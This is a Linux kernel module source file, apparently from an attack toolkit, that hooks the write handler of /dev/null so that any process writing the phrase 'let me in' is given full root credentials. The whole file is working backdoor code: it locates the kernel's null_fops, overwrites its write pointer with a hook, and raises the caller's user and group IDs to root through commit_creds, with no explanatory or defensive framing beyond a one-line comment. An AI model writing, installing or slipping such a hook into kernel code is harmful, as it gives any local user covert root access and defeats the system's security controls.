/* Whoever writes the right words to /dev/null becomes root: its file_operations' pointer "write" leads here. */
#include "attack.h"
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/uaccess.h>

static const char words[] = "let me in\n";
static struct file_operations *operations;
static ssize_t (*original)(struct file *, const char __user *, size_t, loff_t *);

static void become_root(void) {
    struct cred *cred = prepare_creds();
    if (!cred)
        return;
    cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
    cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
    commit_creds(cred);
    hits++;
}

static ssize_t hook(struct file *file, const char __user *from, size_t size, loff_t *position) {
    char written[sizeof words - 1];
    if (size == sizeof written && !copy_from_user(written, from, size) && !memcmp(written, words, size))
        become_root();
    return original(file, from, size, position);
}

static int __init begin(void) {
    operations = (void *)attack_symbol("null_fops");
    if (!operations)
        return -ENOENT;
    original = operations->write;
    return attack_write_pointer(&operations->write, hook);
}

static void __exit end(void) { attack_write_pointer(&operations->write, original); }

module_init(begin);
module_exit(end);
